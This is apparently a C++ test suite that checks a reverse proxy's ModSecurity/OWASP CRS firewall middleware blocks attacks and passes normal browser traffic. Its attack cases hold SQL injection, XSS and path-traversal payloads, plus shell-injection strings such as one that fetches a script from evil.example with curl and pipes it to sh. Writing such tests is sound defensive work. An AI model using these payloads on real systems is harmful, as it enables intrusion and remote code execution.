// The waf middleware through a real portier with real ModSecurity and the installed OWASP CRS
// (modsecurity-crs) in front of a whoami: classic attacks answered 403 at paranoia level 1 and
// never forwarded, a few hundred ordinary browser requests all forwarded, detect mode, body
// limits, inline rules on the response head, rule ids in the access log, the rule set compiled
// once, and bad rules disabling the router with ModSecurity's message in the API.
#include <gtest/gtest.h>

#include <atomic>
#include <fstream>
#include <nlohmann/json.hpp>
#include <thread>

#include "support/net.h"
#include "support/process.h"

namespace portier::test {
namespace {

using json = nlohmann::json;
using namespace std::chrono_literals;

bool contains(const std::string& s, const std::string& part) {
  return s.find(part) != std::string::npos;
}

// One request on its own connection; a Content-Length whenever there is a body.
std::optional<Response> send(int port, const std::string& method, const std::string& host,
                             const std::string& target, const std::string& headers = "",
                             const std::string& body = "") {
  Conn c(port);
  std::string req = method + " " + target + " HTTP/1.1\r\nHost: " + host + "\r\n" + headers;
  if (!body.empty() || method == "POST") {
    req += "Content-Length: " + std::to_string(body.size()) + "\r\n";
  }
  req += "Connection: close\r\n\r\n" + body;
  if (!c.send(req)) return std::nullopt;
  return c.read_response();
}

// What a browser sends besides the request line.
std::string browser_headers(int i) {
  static const char* agents[] = {
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
      "Chrome/124.0.0.0 Safari/537.36",
      "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
      "Version/17.4 Safari/605.1.15",
      "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
      "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
      "Gecko) Version/17.4 Mobile/15E148 Safari/604.1"};
  static const char* languages[] = {"en-US,en;q=0.9", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7",
                                    "fr-FR,fr;q=0.9", "ja,en-US;q=0.7,en;q=0.3"};
  std::string h = "User-Agent: " + std::string(agents[i % 4]) + "\r\n";
  h += "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,"
       "*/*;q=0.8\r\n";
  h += "Accept-Language: " + std::string(languages[i % 4]) + "\r\n";
  h += "Accept-Encoding: gzip, deflate, br\r\n";
  h += "Cookie: session_id=8f14e45fceea167a5a36dedd4bea2543; theme=dark; "
       "_ga=GA1.2.1234567890.1700000000; consent=analytics%3Dno%26ads%3Dno\r\n";
  h += "Referer: https://shop.example.com/products?page=" + std::to_string(i % 7) + "\r\n";
  h += "Sec-Fetch-Mode: navigate\r\nSec-Fetch-Site: same-origin\r\n";
  h += "Upgrade-Insecure-Requests: 1\r\nCache-Control: max-age=0\r\n";
  return h;
}

// The access log lines (JSON), by RequestPath.
std::map<std::string, json> access_lines(const std::filesystem::path& file) {
  std::map<std::string, json> out;
  std::ifstream in(file);
  for (std::string line; std::getline(in, line);) {
    json j = json::parse(line, nullptr, false);
    if (j.is_object()) out[j.value("RequestPath", "")] = j;
  }
  return out;
}

class WafTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    dir_ = std::make_unique<TempDir>();
    app_ = std::make_unique<Whoami>(start_whoami(*dir_, "app"));
    const std::string static_yaml =
        "entryPoints:\n  web:\n    address: \"127.0.0.1:0\"\n"
        "providers:\n  file:\n    filename: dynamic.yml\n"
        "accessLog:\n  format: json\n  bufferingSize: 1\n  filePath: " +
        access_log().string() + "\n";
    portier_ =
        std::make_unique<Portier>(start_portier_static(*dir_, static_yaml, dynamic(), {"web"}));
  }
  static void TearDownTestSuite() {
    portier_.reset();
    app_.reset();
    dir_.reset();
  }
  static std::filesystem::path access_log() { return dir_->path() / "access.log"; }
  static std::string dynamic() {
    std::string d = "http:\n  routers:\n";
    for (const char* r : {"block", "detect", "small", "resp", "pl2"}) {
      d += std::string("    ") + r + ":\n      rule: \"Host(`" + r + ".localhost`)\"\n" +
           "      service: app\n      middlewares: [" + r + "]\n";
    }
    d += "  middlewares:\n"
         "    block:\n      waf: {}\n"
         "    detect:\n      waf:\n        mode: detect\n"
         "    small:\n      waf:\n        requestBodyLimit: 1024\n"
         "    pl2:\n      waf:\n        paranoiaLevel: 2\n        anomalyThreshold: 2\n"
         // No CRS: own rules on the response head (whoami names itself in X-Whoami-Name).
         "    resp:\n      waf:\n        crs: false\n        inspectResponse: true\n"
         "        rules: |\n"
         "          SecRule REQUEST_URI \"@beginsWith /leak\" \"id:10001,phase:1,pass,nolog,"
         "setvar:tx.leak=1\"\n"
         "          SecRule TX:leak \"@eq 1\" \"id:10002,phase:3,deny,status:502,log,"
         "msg:'backend name leaked',chain\"\n"
         "            SecRule RESPONSE_HEADERS:X-Whoami-Name \"@streq app\" \"t:none\"\n"
         "          SecRule ARGS:x \"@streq evil\" \"id:10003,phase:2,deny,status:406,log,"
         "msg:'evil x'\"\n";
    d += "  services:\n    app:\n      loadBalancer:\n        servers:\n          - url: \"" +
         app_->url() + "\"\n";
    return d;
  }
  // The access log line of `path` (the writer thread is asynchronous).
  static json access_line(const std::string& path) {
    json found;
    poll_until(
        [&] {
          auto lines = access_lines(access_log());
          if (!lines.count(path)) return false;
          found = lines[path];
          return true;
        },
        5s);
    return found;
  }

  static std::unique_ptr<TempDir> dir_;
  static std::unique_ptr<Whoami> app_;
  static std::unique_ptr<Portier> portier_;
};
std::unique_ptr<TempDir> WafTest::dir_;
std::unique_ptr<Whoami> WafTest::app_;
std::unique_ptr<Portier> WafTest::portier_;

TEST_F(WafTest, ClassicAttacksAreBlockedAtParanoiaLevelOne) {
  struct Case {
    std::string name, method, target, headers, body;
    std::string family;  // CRS rule id prefix expected in WafRuleIds
  };
  const std::string form = "Content-Type: application/x-www-form-urlencoded\r\n";
  const std::string json_type = "Content-Type: application/json\r\n";
  const std::vector<Case> cases = {
      {"SQLi tautology", "GET", "/a1?id=1%27%20OR%20%271%27%3D%271", "", "", "942"},
      {"SQLi UNION SELECT", "GET", "/a2?id=1%20UNION%20SELECT%20username,password%20FROM%20users",
       "", "", "942"},
      {"SQLi in a JSON body", "POST", "/a3", json_type,
       R"({"q":"1' UNION SELECT password FROM users--"})", "942"},
      {"XSS in the query", "GET", "/a4?q=%3Cscript%3Ealert(1)%3C/script%3E", "", "", "941"},
      {"XSS in a form body", "POST", "/a5", form,
       "comment=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E&name=x", "941"},
      {"path traversal in a parameter", "GET", "/a6?file=../../../../etc/passwd", "", "", "930"},
      {"encoded traversal in a parameter", "GET", "/a7?file=%2e%2e%2f%2e%2e%2fetc%2fpasswd", "", "",
       "930"},
      {"double-encoded traversal", "GET", "/a8?file=..%252f..%252f..%252fetc%252fpasswd", "", "",
       "9"},
      {"Nikto", "GET", "/a9", "User-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)\r\n", "",
       "913"},
      {"sqlmap", "GET", "/a10", "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n", "",
       "913"},
      {"shell injection", "GET", "/a11?host=127.0.0.1%3Bcat%20/etc/passwd", "", "", "932"},
      {"command substitution", "GET", "/a12?cmd=%24(curl%20http://evil.example/x.sh%7Csh)", "", "",
       "932"},
  };
  const long before = app_->requests();
  for (const auto& c : cases) {
    SCOPED_TRACE(c.name);
    auto r = send(portier_->port, c.method, "block.localhost", c.target,
                  "Accept: */*\r\n" + c.headers, c.body);
    ASSERT_TRUE(r);
    EXPECT_EQ(r->status, 403) << r->body;
    const std::string path = c.target;
    json line = access_line(path);
    ASSERT_TRUE(line.is_object()) << path;
    EXPECT_EQ(line["DownstreamStatus"], 403);
    EXPECT_EQ(line.value("OriginStatus", 0), 0);  // not forwarded
    const std::string ids = line.value("WafRuleIds", "");
    EXPECT_TRUE(ids.rfind(c.family, 0) == 0 || contains(ids, "," + c.family)) << ids;
    EXPECT_TRUE(contains(ids, "949110")) << ids;  // the CRS's anomaly score verdict
  }
  EXPECT_EQ(app_->requests(), before + 1);  // only that /stats call: nothing reached it
  EXPECT_TRUE(portier_->proc->wait_for_log(
      "waf: request matched rules\" middleware=block@file action=blocked .*rules=942100", 5s));
}

// Browser traffic with nothing wrong in it: pages, static assets, searches with punctuation,
// form and JSON posts. Every request must reach the server.
TEST_F(WafTest, OrdinaryBrowserTrafficPasses) {
  const std::vector<std::string> pages = {
      "/",
      "/index.html",
      "/products/shoes/running?color=blue&size=42",
      "/blog/2024/05/how-to-bake-sourdough-bread",
      "/account/orders?page=2&sort=-date",
      "/category/home-garden?price_min=10&price_max=49.99&in_stock=1",
      "/help/faq?topic=shipping",
      "/de/produkte/wanderschuhe?farbe=gr%C3%BCn",
      "/api/v1/products?ids=12,13,14&fields=name,price",
      "/checkout/step-2?coupon=SPRING-24"};
  const std::vector<std::string> assets = {"/static/css/main.3f2a1b9c.css",
                                           "/static/js/app.bundle.min.js?v=2.4.1",
                                           "/images/logo@2x.png",
                                           "/fonts/inter-var.woff2",
                                           "/favicon.ico",
                                           "/assets/img/products/1234-large.webp",
                                           "/manifest.webmanifest",
                                           "/robots.txt",
                                           "/static/js/vendor~main.chunk.js",
                                           "/media/banner_spring-sale_1920x600.jpg"};
  const std::vector<std::string> searches = {
      "rock+%26+roll+classics",  "c%2B%2B+tutorial+for+beginners",
      "what%27s+new+in+2024%3F", "50%25+off+winter+jackets",
      "tom%27s+diner",           "price%3A+%2410-%2420",
      "%23summer+dresses",       "O%27Reilly+books",
      "usb-c+cable+2m",          "caf%C3%A9+au+lait+mugs",
      "size+10.5+(wide)",        "hello%2C+world",
      "red%2Fblue+shirt",        "best+laptop+under+1000",
      "don%27t+stop+me+now",     "1%2F2+inch+drill+bit"};
  const std::vector<std::string> forms = {
      "name=Jane+Doe&email=jane%40example.com&message=Hello%2C+I%27d+like+to+know+more+about+"
      "your+products.+Thanks%21",
      "q=garden+chairs&sort=price_asc&page=3",
      "username=jdoe&remember=on&redirect=%2Faccount%2Forders",
      "address=221B+Baker+Street&city=London&zip=NW1+6XE&country=GB",
      "review=Great+shoes%2C+very+comfortable.+Would+buy+again+%3A%29&stars=5"};
  const std::vector<std::string> jsons = {
      R"({"name":"Jane","items":[{"sku":"A-123","qty":2}],"note":"Please deliver after 5pm, thanks!"})",
      R"({"query":"running shoes","filters":{"size":[42,43],"color":"blue"},"page":1})",
      R"({"event":"page_view","path":"/products/shoes","referrer":"https://www.google.com/"})",
      R"({"comment":"Works well. I'd give it 4/5 - the battery could last longer.","rating":4})"};
  int sent = 0;
  int failed = 0;
  const long before = app_->requests();
  auto check = [&](const std::optional<Response>& r, const std::string& what) {
    ++sent;
    if (!r || r->status != 200) {
      ++failed;
      ADD_FAILURE() << what << " -> " << (r ? std::to_string(r->status) : "no answer");
    }
  };
  for (int round = 0; round < 10; ++round) {
    for (std::size_t i = 0; i < pages.size(); ++i) {
      check(send(portier_->port, "GET", "block.localhost", pages[i],
                 browser_headers(round + static_cast<int>(i))),
            pages[i]);
    }
    for (std::size_t i = 0; i < assets.size(); ++i) {
      check(send(portier_->port, "GET", "block.localhost", assets[i],
                 browser_headers(round) + "Sec-Fetch-Dest: image\r\n"),
            assets[i]);
    }
    for (std::size_t i = round % 2; i < searches.size(); i += 2) {
      const std::string t = "/search?q=" + searches[i] + "&lang=en";
      check(send(portier_->port, "GET", "block.localhost", t, browser_headers(round)), t);
    }
    const std::string& f = forms[round % forms.size()];
    check(send(portier_->port, "POST", "block.localhost", "/contact",
               browser_headers(round) + "Content-Type: application/x-www-form-urlencoded\r\n"
                                        "Origin: https://shop.example.com\r\n",
               f),
          f);
    const std::string& j = jsons[round % jsons.size()];
    check(send(portier_->port, "POST", "block.localhost", "/api/v1/cart",
               browser_headers(round) + "Content-Type: application/json\r\n"
                                        "X-Requested-With: XMLHttpRequest\r\n",
               j),
          j);
  }
  EXPECT_GE(sent, 300);
  EXPECT_EQ(failed, 0);
  EXPECT_TRUE(backend_got(*app_, sent, before));
}

// One rule set, two workers, transactions on both at once (ModSecurity's model: a shared
// read-only RulesSet, a Transaction per request): every answer is still the right one.
TEST_F(WafTest, ConcurrentRequestsOnTwoWorkers) {
  std::atomic<int> wrong{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&, t] {
      for (int i = 0; i < 40; ++i) {
        const bool attack = (i + t) % 2 == 0;
        const std::string target =
            attack ? "/c?q=%3Cscript%3Ealert(" + std::to_string(i) + ")%3C/script%3E"
                   : "/c?q=garden+chairs+" + std::to_string(i);
        auto r = send(portier_->port, attack ? "GET" : "POST", "block.localhost", target,
                      browser_headers(i) + "Content-Type: application/x-www-form-urlencoded\r\n",
                      attack ? "" : "comment=Nice+chairs%2C+thanks%21&n=" + std::to_string(i));
        if (!r || r->status != (attack ? 403 : 200)) ++wrong;
      }
    });
  }
  for (auto& th : threads) th.join();
  EXPECT_EQ(wrong.load(), 0);
  EXPECT_TRUE(portier_->proc->running());
}

// portier normalizes the path before any middleware: dot segments, encoded or not, are
// resolved (the server gets the resolved path), and an encoded slash or backslash is refused
// (400, Traefik's encodedCharacters default). So a traversal in the path never reaches the
// server, with or without the WAF; in parameters the CRS catches it (above).
TEST_F(WafTest, PathTraversalInThePathNeverReachesTheServer) {
  auto resolved = send(portier_->port, "GET", "block.localhost", "/t1/%2e%2e/%2e%2e/etc/passwd",
                       browser_headers(1));
  ASSERT_TRUE(resolved);
  EXPECT_EQ(resolved->status, 200);
  EXPECT_TRUE(contains(resolved->body, "GET /etc/passwd HTTP/1.1")) << resolved->body;
  for (const char* t : {"/t2/..%2f..%2f..%2fetc%2fpasswd", "/t3/..%5c..%5cwindows%5cwin.ini"}) {
    SCOPED_TRACE(t);
    const long before = app_->requests();
    auto r = send(portier_->port, "GET", "block.localhost", t, browser_headers(1));
    ASSERT_TRUE(r);
    EXPECT_EQ(r->status, 400);
    EXPECT_EQ(app_->requests(), before + 1);
  }
}

TEST_F(WafTest, DetectModeForwardsAndLogs) {
  const long before = app_->requests();
  const std::string t = "/d1?id=1%20UNION%20SELECT%20password%20FROM%20users";
  auto r = send(portier_->port, "GET", "detect.localhost", t, "Accept: */*\r\n");
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 200) << r->body;
  EXPECT_TRUE(backend_got(*app_, 1, before));
  EXPECT_TRUE(portier_->proc->wait_for_log(
      "waf: request matched rules\" middleware=detect@file action=detected .*rules=942", 5s));
  json line = access_line(t);
  EXPECT_EQ(line["DownstreamStatus"], 200);
  EXPECT_TRUE(contains(line.value("WafRuleIds", ""), "942")) << line.dump();
  // A clean request has no WafRuleIds at all.
  auto clean = send(portier_->port, "GET", "detect.localhost", "/d2?q=shoes", "Accept: */*\r\n");
  ASSERT_TRUE(clean);
  EXPECT_EQ(clean->status, 200);
  EXPECT_FALSE(access_line("/d2?q=shoes").contains("WafRuleIds"));
}

TEST_F(WafTest, BodiesOverTheLimit) {
  const std::string form = "Accept: */*\r\nContent-Type: application/x-www-form-urlencoded\r\n";
  const std::string big = "text=" + std::string(2000, 'a');
  long before = app_->requests();
  auto small_ok = send(portier_->port, "POST", "small.localhost", "/b1", form, "text=hello");
  ASSERT_TRUE(small_ok);
  EXPECT_EQ(small_ok->status, 200);
  auto over = send(portier_->port, "POST", "small.localhost", "/b2", form, big);
  ASSERT_TRUE(over);
  EXPECT_EQ(over->status, 413);
  // Chunked, so the limit is found while reading.
  Conn c(portier_->port);
  ASSERT_TRUE(c.send("POST /b3 HTTP/1.1\r\nHost: small.localhost\r\n" + form +
                     "Transfer-Encoding: chunked\r\n\r\n7d0\r\n" + big.substr(0, 2000) +
                     "\r\n0\r\n\r\n"));
  auto chunked = c.read_response();
  ASSERT_TRUE(chunked);
  EXPECT_EQ(chunked->status, 413);
  EXPECT_TRUE(backend_got(*app_, 1, before));
  EXPECT_EQ(app_->requests(), before + 1 + 1 + 1);  // /b1 and the two /stats calls
  // detect mode streams a body over the limit uninspected (128 KiB by default).
  before = app_->requests();
  auto large = send(portier_->port, "POST", "detect.localhost", "/b4", form,
                    "text=" + std::string(200 * 1024, 'b'));
  ASSERT_TRUE(large);
  EXPECT_EQ(large->status, 200);
  EXPECT_TRUE(backend_got(*app_, 1, before));
}

TEST_F(WafTest, InlineRulesOnTheRequestAndTheResponseHead) {
  auto evil = send(portier_->port, "GET", "resp.localhost", "/r1?x=evil");
  ASSERT_TRUE(evil);
  EXPECT_EQ(evil->status, 406);  // the rule's status
  EXPECT_EQ(access_line("/r1?x=evil").value("WafRuleIds", ""), "10003");
  auto fine = send(portier_->port, "GET", "resp.localhost", "/r2?x=good");
  ASSERT_TRUE(fine);
  EXPECT_EQ(fine->status, 200);
  // Phase 3: the server answered, the response head matched: replaced by the rule's status.
  const long before = app_->requests();
  auto leak = send(portier_->port, "GET", "resp.localhost", "/leak");
  ASSERT_TRUE(leak);
  EXPECT_EQ(leak->status, 502);
  EXPECT_FALSE(contains(leak->body, "app")) << leak->body;
  EXPECT_TRUE(backend_got(*app_, 1, before));
  json line = access_line("/leak");
  EXPECT_EQ(line["DownstreamStatus"], 502);
  EXPECT_EQ(line["OriginStatus"], 200);
  EXPECT_EQ(line.value("WafRuleIds", ""), "10002");
}

TEST_F(WafTest, ParanoiaLevelAndThresholdApply) {
  // 920300 (no Accept field) is a paranoia level 2 rule worth 2 points.
  auto pl2 = send(portier_->port, "GET", "pl2.localhost", "/p1", "User-Agent: Mozilla/5.0\r\n");
  ASSERT_TRUE(pl2);
  EXPECT_EQ(pl2->status, 403);
  const std::string ids = access_line("/p1").value("WafRuleIds", "");
  EXPECT_TRUE(contains(ids, "920300")) << ids;
  // With Accept (and User-Agent: 920320, also paranoia level 2) nothing matches.
  auto with_accept = send(portier_->port, "GET", "pl2.localhost", "/p2", browser_headers(0));
  ASSERT_TRUE(with_accept);
  EXPECT_EQ(with_accept->status, 200);
  auto pl1 = send(portier_->port, "GET", "block.localhost", "/p3", "User-Agent: Mozilla/5.0\r\n");
  ASSERT_TRUE(pl1);
  EXPECT_EQ(pl1->status, 200);
}

std::size_t count_of(const std::string& text, const std::string& part) {
  std::size_t n = 0;
  for (auto at = text.find(part); at != std::string::npos; at = text.find(part, at + 1)) ++n;
  return n;
}

// The mappings of process `pid` whose file name contains `name`.
std::size_t mapped(pid_t pid, const std::string& name) {
  std::ifstream maps("/proc/" + std::to_string(pid) + "/maps");
  std::size_t n = 0;
  for (std::string line; std::getline(maps, line);) n += line.find(name) != std::string::npos;
  return n;
}

// ModSecurity and the libraries it needs (libcurl-gnutls, GnuTLS, ICU, libxml2...) are loaded
// with portier's module when the first waf middleware is compiled, not at start; libcurl
// (OpenSSL's) only for an HTTP client (Docker, ACME, JWKS): this configuration has neither.
TEST(Waf, ModSecurityIsLoadedOnlyWhenAWafMiddlewareIsConfigured) {
  TempDir dir;
  Whoami w = start_whoami(dir, "app");
  std::string d = "http:\n  routers:\n    app:\n      rule: \"PathPrefix(`/`)\"\n"
                  "      service: app\n";
  const std::string services = "  services:\n    app:\n      loadBalancer:\n        servers:\n"
                               "          - url: \"" + w.url() + "\"\n";
  Portier p = start_portier(dir, d + services);
  const pid_t pid = p.proc->pid();
  ASSERT_GT(mapped(pid, "libc.so"), 0u) << "cannot read /proc/" << pid << "/maps";
  auto get = [&](const std::string& target) {
    auto r = http_get(p.port, "app.localhost", target);
    return r ? r->status : 0;
  };
  EXPECT_EQ(get("/?q=blockme"), 200);
  EXPECT_EQ(mapped(pid, "portier-modsecurity.so"), 0u);
  EXPECT_EQ(mapped(pid, "libmodsecurity"), 0u);
  EXPECT_EQ(mapped(pid, "libcurl"), 0u);

  d += "      middlewares: [firewall]\n  middlewares:\n    firewall:\n      waf:\n"
       "        crs: false\n        rules: |\n"
       "          SecRule ARGS:q \"@streq blockme\" \"id:10001,phase:1,deny,status:403\"\n";
  dir.write("dynamic.yml", d + services);
  ASSERT_TRUE(poll_until([&] { return get("/?q=blockme") == 403; }, 10s)) << p.proc->log();
  EXPECT_EQ(get("/?q=fine"), 200);
  EXPECT_GT(mapped(pid, "portier-modsecurity.so"), 0u);
  EXPECT_GT(mapped(pid, "libmodsecurity"), 0u);
  EXPECT_TRUE(contains(p.proc->log(), "waf: ModSecurity module loaded")) << p.proc->log();
  EXPECT_EQ(mapped(pid, "libcurl.so"), 0u);  // ModSecurity's is libcurl-gnutls.so
}

// Loading the CRS takes a while: routers sharing a middleware and reloads that leave it alone
// use the set already compiled; a changed configuration compiles a new one.
TEST(Waf, RuleSetCompiledOncePerConfiguration) {
  TempDir dir;
  Whoami w = start_whoami(dir, "app");
  auto dynamic = [&](int paranoia, bool extra_router) {
    std::string d = "http:\n  routers:\n";
    for (const char* r : {"one", "two"}) {
      d += std::string("    ") + r + ":\n      rule: \"Host(`" + r + ".localhost`)\"\n" +
           "      service: app\n      middlewares: [shared]\n";
    }
    if (extra_router)
      d += "    three:\n      rule: \"Host(`three.localhost`)\"\n      service: app\n";
    d += "  middlewares:\n    shared:\n      waf:\n        paranoiaLevel: " +
         std::to_string(paranoia) + "\n";
    d += "  services:\n    app:\n      loadBalancer:\n        servers:\n          - url: \"" +
         w.url() + "\"\n";
    return d;
  };
  Portier p = start_portier(dir, dynamic(1, false));
  const std::string compiled = "waf: rule set compiled";
  EXPECT_EQ(count_of(p.proc->log(), compiled), 1u) << p.proc->log();
  auto attack = [&](const std::string& host) {
    auto r = http_get(p.port, host, "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "Accept: */*\r\n");
    return r ? r->status : 0;
  };
  EXPECT_EQ(attack("one.localhost"), 403);
  EXPECT_EQ(attack("two.localhost"), 403);

  auto applied = [&](std::size_t n) {
    return poll_until([&] { return count_of(p.proc->log(), "configuration applied") >= n; }, 10s);
  };
  dir.write("dynamic.yml", dynamic(1, true));
  ASSERT_TRUE(applied(2)) << p.proc->log();
  EXPECT_EQ(count_of(p.proc->log(), compiled), 1u) << p.proc->log();
  EXPECT_EQ(attack("one.localhost"), 403);
  EXPECT_EQ(attack("three.localhost"), 200);

  dir.write("dynamic.yml", dynamic(2, true));
  ASSERT_TRUE(applied(3)) << p.proc->log();
  EXPECT_EQ(count_of(p.proc->log(), compiled), 2u) << p.proc->log();
  EXPECT_EQ(attack("two.localhost"), 403);
}

// A middleware whose rules ModSecurity refuses disables the routers using it, with the
// middleware's name and ModSecurity's message, in the API; the others keep working.
TEST(Waf, BadRulesDisableTheRouterWithModSecuritysMessage) {
  TempDir dir;
  Whoami w = start_whoami(dir, "app");
  std::string d = "http:\n  routers:\n";
  for (const char* r : {"nofile", "syntax", "fine"}) {
    d += std::string("    ") + r + ":\n      rule: \"Host(`" + r + ".localhost`)\"\n" +
         "      service: app\n      middlewares: [" + r + "]\n";
  }
  d += "  middlewares:\n"
       "    nofile:\n      waf:\n        ruleFiles: [/nonexistent/portier/waf.conf]\n"
       "    syntax:\n      waf:\n        crs: false\n"
       "        rules: \"SecRule ARGS \\\"@rx x\\\" \\\"id:1,phase:2,nosuchaction\\\"\"\n"
       "    fine:\n      waf:\n        crs: false\n";
  d += "  services:\n    app:\n      loadBalancer:\n        servers:\n          - url: \"" +
       w.url() + "\"\n";
  Portier p = start_portier(dir, d, "  traefik:\n    address: \"127.0.0.1:0\"\n",
                            "api:\n  insecure: true\n");
  auto api_port = p.proc->wait_for_log(
      "api listening\" entrypoint=traefik address=127\\.0\\.0\\.1:([0-9]+)", 5s);
  ASSERT_TRUE(api_port) << p.proc->log();
  auto get = [&](const std::string& path) {
    auto r = http_get(std::stoi(*api_port), "127.0.0.1", path);
    EXPECT_TRUE(r) << path;
    return r ? json::parse(r->body, nullptr, false) : json();
  };
  struct Case {
    std::string router, middleware;
    std::vector<std::string> want;
  };
  const std::vector<Case> cases = {
      {"nofile@file",
       "nofile@file",
       {"waf.ruleFiles: `/nonexistent/portier/waf.conf` matches no file"}},
      {"syntax@file",
       "syntax@file",
       {"waf.rules: ", "File: waf.rules. Line: 1.", "Expecting an action", "nosuchaction"}},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.router);
    json r = get("/api/http/routers/" + c.router);
    EXPECT_EQ(r["status"], "disabled") << r.dump();
    ASSERT_TRUE(r["error"].is_array()) << r.dump();
    const std::string err = r["error"][0].get<std::string>();
    EXPECT_TRUE(contains(err, "middleware `" + c.middleware + "`")) << err;
    for (const auto& s : c.want) EXPECT_TRUE(contains(err, s)) << err;
    json m = get("/api/http/middlewares/" + c.middleware);
    EXPECT_TRUE(contains(m.dump(), c.want[0])) << m.dump();
  }
  EXPECT_EQ(get("/api/http/routers/fine@file")["status"], "enabled");
  auto fine = http_get(p.port, "fine.localhost", "/");
  ASSERT_TRUE(fine);
  EXPECT_EQ(fine->status, 200);
  auto off = http_get(p.port, "nofile.localhost", "/");
  ASSERT_TRUE(off);
  EXPECT_EQ(off->status, 404);
}

}  // namespace
}  // namespace portier::test
